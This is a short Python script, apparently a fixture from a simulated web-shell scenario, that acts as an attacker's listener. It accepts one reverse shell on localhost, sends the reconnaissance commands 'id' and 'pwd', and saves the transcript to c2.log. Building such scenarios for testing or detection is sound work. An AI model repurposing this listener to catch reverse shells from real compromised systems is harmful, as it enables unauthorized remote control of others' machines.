"""The attacker's listener: accepts one reverse shell on 127.0.0.1:PORT, types a few commands
and keeps the transcript in c2.log. Part of the scapkit web shell scenario."""

import socket
import sys

srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", int(sys.argv[1])))
srv.listen(1)
open("c2.ready", "w").close()
srv.settimeout(60)
conn, _ = srv.accept()
conn.sendall(b"id\npwd\nexit\n")
transcript = b""
while True:
    chunk = conn.recv(4096)
    if not chunk:
        break
    transcript += chunk
conn.close()
with open("c2.log", "wb") as f:
    f.write(transcript)
